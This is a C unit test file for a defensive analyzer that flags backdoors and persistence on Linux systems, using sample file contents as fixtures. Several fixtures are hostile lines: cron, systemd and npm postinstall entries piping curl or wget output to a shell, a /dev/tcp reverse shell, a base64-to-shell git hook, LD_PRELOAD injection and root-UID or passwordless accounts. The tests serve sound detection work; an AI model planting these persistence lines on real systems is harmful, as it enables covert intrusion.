/* SPDX-License-Identifier: Apache-2.0 */
/* The analyzer "backdoors": for each thing that it tells, one file that has it and one that has
 * not. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>

#include "fake_ledger.h"

extern const struct analyzer_ops analyzer_backdoors;

static struct ledger l;
static void *self;

static int set_up(void **state)
{
	struct err e = {0};

	fake_ledger_init(&l);
	if (analyzer_backdoors.open(&(struct analyzer_options){.data_dir = "data"}, &self, &e) < 0)
		fail_msg("%s", e.msg);
	return 0;
}

static int tear_down(void **state)
{
	analyzer_backdoors.close(self);
	fake_ledger_done(&l);
	return 0;
}

static void show(const char *path, const char *text)
{
	fake_ledger_clear(&l);
	fake_show(&analyzer_backdoors, self, &l, path, 0644, str_of(text));
}

static void show_entry(const char *path, enum artifact_file_kind kind, uint32_t mode)
{
	struct artifact_file f = {.path = str_of(path), .kind = kind, .mode = mode};

	fake_ledger_clear(&l);
	fake_show_file(&analyzer_backdoors, self, &l, &f, STR_NULL);
}

/* Files of which one finding of that check is told, and files of which none is. */
static const struct {
	const char *path, *text, *check;
} files[] = {
	{"/etc/passwd", "root:x:0:0::/root:/bin/sh\nme:x:1000:1000::/home/me:/bin/sh\n", NULL},
	{"/etc/passwd", "root:x:0:0::/root:/bin/sh\nme:x:0:0::/:/bin/sh\n",
		"backdoor-root-account"},
	{"/etc/passwd", "root::0:0::/root:/bin/sh\n", "backdoor-empty-password"},
	{"/etc/passwd", ":::\n\n::::::\nx\n", NULL},
	{"/etc/shadow", "root:*:19000:0:99999:7:::\nme:!:1::::::\nx:!!:1::::::\n", NULL},
	{"/etc/shadow", "root::19000:0:99999:7:::\n", "backdoor-empty-password"},
	{"/etc/shadow", "root:$6$salt$hashhashhash:19000:0:99999:7:::\n", "backdoor-password"},
	{"/etc/sudoers", "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n", NULL},
	{"/etc/sudoers.d/me", "me ALL=(ALL) NOPASSWD: ALL\n", "backdoor-sudo-everything"},
	{"/etc/sudoers.d/me", "me ALL=(ALL) NOPASSWD: /usr/bin/reboot\n", NULL},
	{"/etc/pam.d/common-auth",
		"auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n"
		"auth required pam_permit.so\n@include x\n",
		NULL},
	{"/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "backdoor-pam-permit"},
	{"/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /usr/bin/x\n",
		"backdoor-pam-exec"},
	{"/etc/pam.d/sshd", "auth required /tmp/x.so\n", "backdoor-pam-module"},
	{"/etc/ssh/sshd_config", "#PermitRootLogin yes\nPermitRootLogin no\n", NULL},
	{"/etc/ssh/sshd_config", "PermitRootLogin yes\n", "backdoor-sshd-root"},
	{"/etc/ssh/sshd_config.d/x.conf", "permitemptypasswords yes\n",
		"backdoor-sshd-empty-password"},
	{"/etc/ld.so.preload", "# nothing\n\n", NULL},
	{"/etc/ld.so.preload", "/usr/local/lib/libx.so\n", "backdoor-preload"},
	{"/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n",
		NULL},
	{"/etc/cron.d/x", "* * * * * root curl -s http://x.invalid/a | sh\n", "backdoor-cron"},
	{"/etc/cron.d/x", "*/5 * * * * root /usr/bin/backup\n", NULL},
	{"/etc/crontabs/root", "*/15 * * * * run-parts /etc/periodic/15min\n", NULL},
	{"/var/spool/cron/crontabs/root", "@reboot /usr/bin/x\n", "backdoor-cron-user"},
	{"/var/spool/cron/root", "*/5 * * * * /tmp/.x/y >/dev/null\n", "backdoor-cron"},
	{"/etc/cron.daily/x", "#!/bin/sh\nwget -qO- http://x.invalid/a | bash\n", "backdoor-cron"},
	{"/etc/systemd/system/x.service", "[Service]\nExecStart=/usr/sbin/nginx -g x\n", NULL},
	{"/etc/systemd/system/x.service", "[Service]\nExecStart=-/tmp/x\n", "backdoor-unit"},
	{"/lib/systemd/system/x.service",
		"[Service]\nExecStart=/bin/sh -c \"curl -s http://x.invalid/a | sh\"\n",
		"backdoor-unit"},
	{"/etc/init.d/x", "#!/bin/sh\n/dev/shm/x &\n", "backdoor-init"},
	{"/etc/rc.local", "#!/bin/sh\nexit 0\n", NULL},
	{"/root/.bashrc", "alias ll='ls -l'\n[ -x /usr/bin/x ] && eval \"$(x)\"\n", NULL},
	{"/root/.bashrc", "nohup bash -i >& /dev/tcp/127.0.0.1/9 0>&1 &\n", "backdoor-login"},
	{"/home/me/.profile", "export LD_PRELOAD=/tmp/x.so\n", "backdoor-login"},
	{"/app/.git/hooks/post-checkout", "#!/bin/sh\necho aGk= | base64 -d | sh\n",
		"backdoor-git-hook"},
	{"/app/.git/hooks/post-checkout.sample", "echo aGk= | base64 -d | sh\n", NULL},
	{"/usr/lib/python3/dist-packages/x.pth", "import os; exec(os.environ['x'])\n",
		"backdoor-python-start"},
	{"/usr/lib/python3/dist-packages/x.pth", "/opt/more\nimport _virtualenv\n", NULL},
	{"/app/node_modules/x/package.json",
		"{\"scripts\": {\"postinstall\": \"curl -s http://x.invalid/a | sh\"}}",
		"backdoor-npm-script"},
	{"/app/node_modules/x/package.json",
		"{\"scripts\": {\"postinstall\": \"node install.js\"}}", NULL},
	{"/usr/bin/ps", "#!/bin/sh\nps.original | grep -v x\n", "backdoor-replaced-tool"},
	{"/usr/bin/ldd", "#!/bin/bash\necho\n", NULL},
};

static void settings_files(void **state)
{
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		show(files[i].path, files[i].text);
		if (files[i].check ? l.nfindings == 1 && fake_find(&l, files[i].check)
				   : l.nfindings == 0)
			continue;
		fake_print(&l);
		fail_msg("%s, \"%s\": wanted %s", files[i].path, files[i].text,
			files[i].check ? files[i].check : "nothing");
	}
}

/* The blob is that of no key: its type and 32 bytes of which nobody has the other half. */
static const char key[] =
	"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8g";

static void keys_are_told_with_their_fingerprint(void **state)
{
	char text[1000];

	snprintf(text, sizeof(text),
		"# mine\n%s me@x\nfrom=\"10.0.0.1 x\",no-pty %s\nssh-ed25519 AAAA\n", key, key);
	show("/root/.ssh/authorized_keys", text);
	assert_int_equal(fake_count(&l, "backdoor-authorized-key"), 2);
	const struct artifact_finding *f = fake_find(&l, "backdoor-authorized-key");
	/* what ssh-keygen -lf says of it */
	assert_true(str_is(artifact_finding_fact(f, "key"),
		"SHA256:mKqU+0K8OhKmA8bBQi9Rz0Q5l7/g160hIP+rJYSTNj4"));
	assert_true(str_find(f->title, STR("as root:")) >= 0);
	assert_true(str_find(f->title, STR("me@x")) >= 0);
	assert_int_equal(f->line, 2);
	show("/home/me/.ssh/authorized_keys", key);
	assert_true(str_find(fake_find(&l, "backdoor-authorized-key")->title, STR("as me:")) >= 0);
	show("/home/authorized_keys", key); /* a path without a user in it */
	assert_int_equal(l.nfindings, 1);
	show("/srv/me.pub", key);
	assert_int_equal(fake_find(&l, "backdoor-public-key")->severity, ARTIFACT_INFO);
	show("/etc/ssh/ssh_host_ed25519_key.pub", key);
	assert_int_equal(l.nfindings, 0);
}

static void passwords_are_not_shown(void **state)
{
	show("/etc/shadow", "root:$6$salt$hashhashhash:19000:0:99999:7:::\n");
	assert_int_equal(l.findings[0].excerpt.len, 0);
	assert_true(str_find(l.findings[0].title, STR("hash")) < 0);
}

static const struct {
	const char *path;
	enum artifact_file_kind kind;
	uint32_t mode;
	const char *check;
} entries[] = {
	{"/usr/bin/passwd", ARTIFACT_FILE, 04755, NULL},
	{"/bin/su", ARTIFACT_FILE, 04755, NULL},
	{"/usr/local/bin/su", ARTIFACT_FILE, 04755, "backdoor-setuid"},
	{"/bin/bash", ARTIFACT_FILE, 04755, "backdoor-setuid"},
	{"/usr/bin/wall", ARTIFACT_FILE, 02755, NULL},
	{"/usr/bin/x", ARTIFACT_FILE, 02755, "backdoor-setgid"},
	{"/usr/bin/x", ARTIFACT_FILE, 0755, NULL},
	{"/usr/bin/x", ARTIFACT_DIR, 02755, NULL},
	{"/usr/bin/kworker", ARTIFACT_FILE, 0755, "backdoor-kernel-name"},
	{"/tmp/[kswapd0]", ARTIFACT_FILE, 0755, "backdoor-kernel-name"},
	{"/opt/kdevtmpfsi", ARTIFACT_FILE, 0755, "backdoor-kernel-name"},
	{"/opt/kworker-client", ARTIFACT_FILE, 0755, NULL},
	{"/etc/kworker", ARTIFACT_FILE, 0644, NULL},
	{"/tmp/...", ARTIFACT_DIR, 0755, "backdoor-odd-name"},
	{"/tmp/.. ", ARTIFACT_DIR, 0755, "backdoor-odd-name"},
	{"/tmp/ ", ARTIFACT_DIR, 0755, "backdoor-odd-name"},
	{"/usr/bin/ls ", ARTIFACT_FILE, 0755, "backdoor-odd-name"},
	{"/usr/bin/gpj.\xe2\x80\xae"
	 "exe",
		ARTIFACT_FILE, 0755, "backdoor-odd-name"},
	{"/srv/..x", ARTIFACT_DIR, 0755, NULL},
	{"/srv/a b", ARTIFACT_DIR, 0755, NULL},
};

static void modes_and_names(void **state)
{
	for (size_t i = 0; i < sizeof(entries) / sizeof(entries[0]); i++) {
		show_entry(entries[i].path, entries[i].kind, entries[i].mode);
		if (entries[i].check ? l.nfindings == 1 && fake_find(&l, entries[i].check)
				     : l.nfindings == 0)
			continue;
		fake_print(&l);
		fail_msg("%s %o: wanted %s", entries[i].path, entries[i].mode,
			entries[i].check ? entries[i].check : "nothing");
	}
	show_entry("/bin/bash", ARTIFACT_FILE, 04755);
	assert_int_equal(l.findings[0].severity, ARTIFACT_HIGH);
	show_entry("/opt/helper", ARTIFACT_FILE, 04755);
	assert_int_equal(l.findings[0].severity, ARTIFACT_LOW);

	struct artifact_file f = {.path = STR("/usr/bin/python3"),
		.kind = ARTIFACT_FILE,
		.mode = 0755,
		.has_capabilities = true};
	fake_ledger_clear(&l);
	fake_show_file(&analyzer_backdoors, self, &l, &f, STR_NULL);
	assert_int_equal(fake_find(&l, "backdoor-capabilities")->severity, ARTIFACT_HIGH);
	f.path = STR("/bin/ping");
	fake_ledger_clear(&l);
	fake_show_file(&analyzer_backdoors, self, &l, &f, STR_NULL);
	assert_int_equal(l.nfindings, 0);
}

/* A static program of headers only: 64 bits, one segment of `code` bytes that runs. */
static struct str make_elf(char *out, size_t size, bool is_random)
{
	unsigned char *p = (unsigned char *)out;

	memset(p, 0, size);
	memcpy(p, "\177ELF\2\1\1", 7);
	p[16] = 2;
	p[18] = 62;
	p[32] = 64;
	p[54] = 56;
	p[56] = 1;
	p[64] = 1;                                       /* PT_LOAD */
	p[68] = 5;                                       /* read, run */
	p[73] = 1;                                       /* offset 256 */
	p[64 + 33] = (unsigned char)((size - 256) >> 8); /* bytes in the file */
	p[64 + 34] = (unsigned char)((size - 256) >> 16);
	unsigned x = 1;
	for (size_t i = 256; i < size; i++) {
		x = x * 1103515245 + 12345;
		p[i] = is_random ? (unsigned char)(x >> 16) : (unsigned char)(x >> 20 & 15);
	}
	return str_make(out, size);
}

static void programs_by_place_and_shape(void **state)
{
	static char raw[256 + 65536];
	struct str plain = make_elf(raw, sizeof(raw), false);

	fake_ledger_clear(&l);
	fake_show(&analyzer_backdoors, self, &l, "/usr/bin/x", 0755, plain);
	assert_int_equal(l.nfindings, 0);
	fake_show(&analyzer_backdoors, self, &l, "/dev/shm/x", 0755, plain);
	assert_int_equal(fake_count(&l, "backdoor-odd-place"), 1);
	assert_true(str_is(artifact_finding_fact(fake_find(&l, "backdoor-odd-place"), "program"),
		"static, stripped"));
	fake_show(&analyzer_backdoors, self, &l, "/usr/lib/.x/y", 0755, plain);
	assert_int_equal(fake_count(&l, "backdoor-hidden-program"), 1);
	fake_ledger_clear(&l);
	fake_show(&analyzer_backdoors, self, &l, "/usr/bin/x", 0755,
		make_elf(raw, sizeof(raw), true));
	assert_int_equal(l.nfindings, 1);
	assert_non_null(fake_find(&l, "backdoor-packed"));
}

static void words_of_scripts_are_told(void **state)
{
	show("/entrypoint.sh", "#!/bin/sh\nset -e\nexec /opt/app/run --x\n");
	assert_true(fake_has_run(&l, "/opt/app/run"));
	show("/etc/systemd/system/x.service", "[Service]\nExecStart=!/opt/a\nExecStop=/opt/b\n");
	assert_true(fake_has_run(&l, "/opt/a") && fake_has_run(&l, "/opt/b"));
	show("/etc/cron.d/x", "*/5 * * * * root /opt/c\n");
	assert_true(fake_has_run(&l, "/opt/c") && !fake_has_run(&l, "root"));
	show("/etc/ld.so.preload", "/opt/d.so\n");
	assert_true(fake_has_run(&l, "/opt/d.so"));
	show("/readme", "run /opt/e\n");
	assert_int_equal(l.nruns, 0);
}

static void the_words_of_a_file_are_bounded(void **state)
{
	char *text = malloc(20000), *at = text;

	at += sprintf(at, "#!/bin/sh\n");
	for (int i = 0; i < 1000; i++)
		at += sprintf(at, "/opt/%d/x\n", i);
	show("/x.sh", text);
	assert_int_equal(l.nruns, 64);
	free(text);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(settings_files),
		cmocka_unit_test(keys_are_told_with_their_fingerprint),
		cmocka_unit_test(passwords_are_not_shown),
		cmocka_unit_test(modes_and_names),
		cmocka_unit_test(programs_by_place_and_shape),
		cmocka_unit_test(words_of_scripts_are_told),
		cmocka_unit_test(the_words_of_a_file_are_bounded),
	};
	return cmocka_run_group_tests(tests, set_up, tear_down);
}
